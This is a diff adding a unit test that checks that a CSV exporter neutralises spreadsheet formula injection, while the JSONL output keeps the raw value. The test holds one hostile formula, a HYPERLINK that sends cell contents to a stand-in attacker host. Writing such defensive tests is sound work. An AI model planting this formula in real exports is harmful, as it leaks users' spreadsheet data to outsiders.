@@ -3,6 +3,9 @@ validator exactly where the database refuses, and rendered for the user in their
 
 from __future__ import annotations
 
+import csv
+import io
+import json
 import re
 from dataclasses import replace
 from datetime import UTC, date, datetime
@@ -687,3 +690,14 @@ def test_an_export_writes_one_json_object_a_line_or_a_csv_column_a_field() -> No
     assert csv_lines[0] == ",".join(FIELDS)
     assert len(csv_lines) == 3
     assert '"AT,BE,BG' in csv_lines[1]
+
+
+def test_a_csv_export_cell_that_a_spreadsheet_would_run_as_a_formula_is_written_as_text() -> None:
+    hostile = '=HYPERLINK("https://attacker.example/?"&A1,"open")'
+    rows = [statement(puid="a", illegal_content_explanation=hostile)]
+
+    [header, row] = list(csv.reader(io.StringIO("".join(export_lines(rows, ExportFormat.CSV)))))
+    [jsonl] = "".join(export_lines(rows, ExportFormat.JSONL)).splitlines()
+
+    assert row[header.index("illegal_content_explanation")] == "'" + hostile
+    assert json.loads(jsonl)["illegal_content_explanation"] == hostile
